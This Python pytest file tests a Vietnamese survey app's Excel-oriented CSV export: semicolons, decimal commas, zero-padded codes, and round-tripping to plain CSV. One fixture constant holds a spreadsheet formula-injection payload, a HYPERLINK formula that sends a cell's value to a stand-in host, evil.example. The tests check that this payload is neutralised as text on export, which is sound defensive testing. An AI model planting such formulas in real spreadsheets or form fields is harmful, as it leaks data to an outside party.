"""CSV for Excel in Vietnamese (`--excel-vi`, `?dialect=excel-vi`): a semicolon, decimal commas,
codes kept as written (="00007"), user text still neutralised; it reads back to the plain CSV."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Sequence
from datetime import date, datetime
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from hailong.models import Unit
from hailong.periods.service import VIETNAM
from hailong.periods.service import get_by_code as period_by_code
from hailong.reports.index_table import write_index_csv
from hailong.responses import service as responses
from hailong.responses.csvformat import CODE_COLUMNS, COLUMNS, CsvDialect
from hailong.responses.exporting import ResponseFilter, write_responses_csv
from hailong.spreadsheet import from_code, from_text
from tests.factories import make_unit
from tests.reports.conftest import Hailong
from tests.reports.dataset import PERIOD, PROVINCE, Dataset, Form
from tests.reports.test_index_download import selection

BOM = b"\xef\xbb\xbf"
LEADING_ZEROS = "00007"
SERIAL = "000123"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2;"Bấm vào đây")'
# The index's code columns (unit and parent) and its figures, from the fifth column on.
INDEX_CODES = (1, 3)
FIRST_FIGURE = 5


@pytest.fixture
def ward_00007(sessions: sessionmaker[Session], dataset: Dataset) -> None:
    """A commune whose code starts with zeros, a web form with a formula for a comment and a
    paper form keyed in under a serial number with leading zeros."""
    with sessions.begin() as session:
        period = period_by_code(session, PERIOD)
        province = session.scalars(select(Unit).where(Unit.code == PROVINCE.code)).one()
        assert period is not None
        ward = make_unit(session, code=LEADING_ZEROS, name="Xã Số Bảy", parent=province)
        for channel, comment in (("web", HYPERLINK), ("paper", "Cán bộ nhiệt tình; chu đáo")):
            form = Form(LEADING_ZEROS, "5544 4455 54433 545", date(2026, 3, 3), channel=channel)
            response = responses.start(
                session, unit_id=ward.id, counter_id=None, period=period, channel=channel
            )
            state = responses.load(session, response)
            answers = {**form.everything(), "comment": comment}
            assert responses.save_answers(session, state, answers, now=form.moment) == "completed"
            if channel == "paper":
                response.form_id = SERIAL


def parsed(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(BOM), "Excel needs the BOM to read UTF-8"
    text = data[len(BOM) :].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def undone(rows: Sequence[Sequence[str]], codes: Sequence[int], figures_from: int | None) -> list:
    """The values written: protections taken away, decimal commas made points again."""

    def value(position: int, cell: str) -> str:
        if position in codes:
            return from_code(cell)
        if figures_from is not None and position >= figures_from:
            return cell.replace(",", ".")
        return from_text(cell)

    header, *body = rows
    return [[from_text(c) for c in header]] + [
        [value(i, cell) for i, cell in enumerate(row)] for row in body
    ]


def plain_values(rows: Sequence[Sequence[str]]) -> list[list[str]]:
    return [[from_text(cell) for cell in row] for row in rows]


Writer = Callable[[Session, CsvDialect], bytes]


def index_file(session: Session, dialect: CsvDialect) -> bytes:
    out = io.BytesIO()
    write_index_csv(session, selection(session, PROVINCE.code), out, dialect=dialect)
    return out.getvalue()


def responses_file(session: Session, dialect: CsvDialect) -> bytes:
    period = period_by_code(session, PERIOD)
    assert period is not None
    out = io.BytesIO()
    write_responses_csv(session, ResponseFilter(period=period), out, dialect=dialect)
    return out.getvalue()


@pytest.mark.usefixtures("ward_00007")
class TestIndex:
    def test_the_bytes_are_what_excel_in_vietnamese_reads(self, session: Session) -> None:
        data = index_file(session, CsvDialect.excel_vi)
        assert data.startswith(BOM)
        text = data[len(BOM) :].decode("utf-8")
        lines = text.split("\r\n")
        assert lines[-1] == "" and all("\n" not in line for line in lines)
        assert lines[0].startswith("Cấp;Mã đơn vị;Tên đơn vị;")
        # The ward's row: its code kept as written, its parent's too, figures with a comma.
        (ward,) = [line for line in lines if "Xã Số Bảy" in line]
        assert ward.startswith('Xã/Phường;"=""00007""";Xã Số Bảy;"=""31""";2;')
        assert re.search(r";\d{1,3},\d\d;", ward), ward
        assert not re.search(r"\d\.\d", text), "no decimal point is left"

    def test_it_reads_back_to_the_plain_csv(self, session: Session) -> None:
        excel = parsed(index_file(session, CsvDialect.excel_vi), ";")
        plain = parsed(index_file(session, CsvDialect.plain), ",")
        assert excel[1][1] == '="31"' and excel[0] == plain[0]
        assert undone(excel, INDEX_CODES, FIRST_FIGURE) == plain_values(plain)

    def test_the_plain_csv_is_unchanged(self, session: Session) -> None:
        text = index_file(session, CsvDialect.plain).decode("utf-8-sig")
        assert text.startswith("Cấp,Mã đơn vị,Tên đơn vị,")
        assert ",00007,Xã Số Bảy,31,2," in text


@pytest.mark.usefixtures("ward_00007")
class TestResponses:
    def test_codes_are_kept_and_user_text_still_neutralised(self, session: Session) -> None:
        header, *rows = parsed(responses_file(session, CsvDialect.excel_vi), ";")
        assert tuple(header) == COLUMNS
        ours = [row for row in rows if row[1] == '="00007"']
        assert len(ours) == 2
        comments = {row[COLUMNS.index("comment")] for row in ours}
        # The citizen's formula goes out as text, never as the deliberate ="..." of a code.
        assert "'" + HYPERLINK in comments
        assert "Cán bộ nhiệt tình; chu đáo" in comments
        assert {row[0] for row in ours} >= {f'="{SERIAL}"'}
        assert {row[COLUMNS.index("period")] for row in rows} == {f'="{PERIOD}"'}
        assert {row[COLUMNS.index("procedure_code")] for row in ours} == {'="1.001612"'}
        # Scores stay numbers Excel can add up.
        assert ours[0][COLUMNS.index("A1")] == "5"

    def test_it_reads_back_to_the_plain_csv(self, session: Session) -> None:
        excel = parsed(responses_file(session, CsvDialect.excel_vi), ";")
        plain = parsed(responses_file(session, CsvDialect.plain), ",")
        codes = [COLUMNS.index(name) for name in CODE_COLUMNS]
        assert undone(excel, codes, None) == plain_values(plain)
        assert len(plain) == 1 + 8 + 2

    def test_submitted_at_stays_readable(self, session: Session) -> None:
        _, *rows = parsed(responses_file(session, CsvDialect.excel_vi), ";")
        moment = datetime.fromisoformat(rows[0][COLUMNS.index("submitted_at")])
        assert moment.tzinfo is not None and moment.astimezone(VIETNAM).year == 2026


@pytest.mark.usefixtures("ward_00007")
class TestCommand:
    def test_excel_vi_for_the_index_and_the_responses(
        self, hailong: Hailong, tmp_path: Path
    ) -> None:
        index = tmp_path / "index.csv"
        args = ("--period", PERIOD, "--unit", LEADING_ZEROS, "--excel-vi", "-o", str(index))
        result = hailong("download", "index", *args)
        assert result.exit_code == 0, result.stderr
        assert index.read_bytes().startswith(BOM + "Cấp;".encode())
        assert '"=""00007"""' in index.read_text(encoding="utf-8-sig")
        answers = tmp_path / "responses.csv"
        args = ("--period", PERIOD, "--unit", LEADING_ZEROS, "--excel-vi", "-o", str(answers))
        result = hailong("download", "responses", *args)
        assert result.exit_code == 0, result.stderr
        _, *rows = parsed(answers.read_bytes(), ";")
        assert [row[1] for row in rows] == ['="00007"', '="00007"']

    def test_excel_vi_is_for_csv_only(self, hailong: Hailong, tmp_path: Path) -> None:
        target = tmp_path / "index.xlsx"
        result = hailong("download", "index", "--period", PERIOD, "--excel-vi", "-o", str(target))
        assert result.exit_code != 0
        assert "--excel-vi ghi tệp CSV" in result.stderr
        assert "--excel-vi writes a CSV file" in result.stderr
        assert not target.exists()
